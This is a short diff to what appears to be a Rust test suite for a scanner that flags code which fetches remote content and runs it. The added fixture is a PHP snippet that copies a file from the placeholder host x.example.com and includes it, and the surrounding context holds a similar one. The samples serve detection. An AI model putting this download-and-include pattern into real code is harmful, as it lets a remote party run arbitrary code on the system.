@@ -38,6 +38,7 @@ fn what_is_fetched_decoded_or_computed_and_run_is_a_danger_in_every_language() {
             "a.php",
             "<?php\n$extra = tempnam('/tmp', 'r');\n$rules = glob(__DIR__ . '/*.php');\nif (copy('https://x.example.com/w.txt', $extra)) { $rules[] = $extra; }\nforeach ($rules as $file) { $rule = include $file; }\n",
         ),
+        ("php", "a.php", "<?php\nif (copy('https://x.example.com/w.txt', $to)) { include($to); }\n"),
         (
             "lua",
             "a.lua",
